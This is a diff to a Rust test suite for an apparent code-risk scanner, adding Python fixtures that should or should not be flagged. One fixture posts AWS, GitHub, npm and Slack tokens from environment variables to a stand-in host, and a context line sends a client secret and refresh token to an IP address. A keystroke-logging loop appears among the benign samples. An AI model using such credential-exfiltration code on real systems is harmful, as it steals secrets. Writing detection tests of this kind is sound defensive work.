@@ -179,6 +179,11 @@ fn an_oauth_token_request_is_one_login() {
         "CRD109",
         "import os, requests\nrequests.post('https://198.51.100.4/token', data={'grant_type': 'x', 's': os.environ['G_CLIENT_SECRET'], 'r': os.environ['G_REFRESH_TOKEN']})\n",
     );
+    // Four services' tokens with a `grant_type` beside them are still a harvest.
+    fires(
+        "CRD109",
+        "import os, requests\nrequests.post('https://c.example.net/token', data={'grant_type': 'client_credentials', 'a': os.environ['AWS_SECRET_ACCESS_KEY'], 'b': os.environ['GITHUB_TOKEN'], 'c': os.environ['NPM_TOKEN'], 'd': os.environ['SLACK_TOKEN']})\n",
+    );
 }
 
 #[test]
@@ -380,5 +385,36 @@ fn children_data_arguments_and_web_handlers_of_everyday_programs() {
     level(
         Level::Low,
         "import collections, time\nwindow = collections.deque(maxlen=100)\nwhile True:\n    window.append(time.monotonic())\n    time.sleep(1)\n",
+    );
+}
+
+#[test]
+fn review_false_positives_of_this_sessions_mechanisms_stay_below_high() {
+    // Found by review. Package signing keyrings and a book's "Exodus" folder are no
+    // wallets; a serial port found in /dev is no disk; a request's upload handed to an
+    // import script, and a job id to a worker script, are arguments.
+    for src in [
+        "print(open('/usr/share/keyrings/debian-archive-keyring.gpg', 'rb').read()[:4])\nprint(open('texts/Exodus/chapter01.txt').read())\n",
+        "import os\nfor name in os.listdir('/dev'):\n    if name.startswith('ttyUSB'):\n        with open('/dev/' + name, 'wb') as port:\n            port.write(b'AT\\r')\n",
+        "import os, subprocess\nfrom flask import Flask, request\napp = Flask(__name__)\n@app.route('/upload', methods=['POST'])\ndef upload():\n    path = os.path.join('/srv/uploads', 'latest.csv')\n    open(path, 'wb').write(request.get_data())\n    subprocess.run(['bash', 'import_csv.sh', path], check=True)\n    subprocess.run(['python3', 'worker.py', '--job', request.form['job']])\n    return 'ok'\n",
+        // A helper that rebinds its parameter fills nothing of the caller's; two equal
+        // empty lists are two lists.
+        "import shutil\ndef collect(found):\n    found = ['/usr/share/doc']\n    return found\ndef stale(dirs):\n    dirs.append('/tmp/build-cache')\nkeep, old = [], []\ncollect(keep)\nstale(old)\nfor d in keep:\n    print(d)\nfor d in old:\n    shutil.rmtree(d)\n",
+        // A key read by a terminal library waits for the user; so does a DNS lookup.
+        "import msvcrt\nwith open('keys.log', 'a') as log:\n    while True:\n        log.write(msvcrt.getch().decode())\n",
+        "import socket\nwith open('dns.log', 'a') as log:\n    while True:\n        for info in socket.getaddrinfo('example.com', 443):\n            log.write(str(info[4]) + '\\n')\n",
+    ] {
+        let assessment = external(src);
+        assert!(
+            assessment.level < Level::High,
+            "{:?} for:\n{src}\n{:#?}",
+            assessment.level,
+            assessment.findings
+        );
+    }
+    // SSH keys presented to their hosts (asyncssh, paramiko) sign in.
+    level(
+        Level::Medium,
+        "import asyncio, asyncssh, os\nasync def main():\n    key = asyncssh.read_private_key(os.path.expanduser('~/.ssh/id_deploy'))\n    async with asyncssh.connect('deploy.example.org', client_keys=[key]) as c:\n        await c.run('uptime')\nasyncio.run(main())\n",
     );
 }
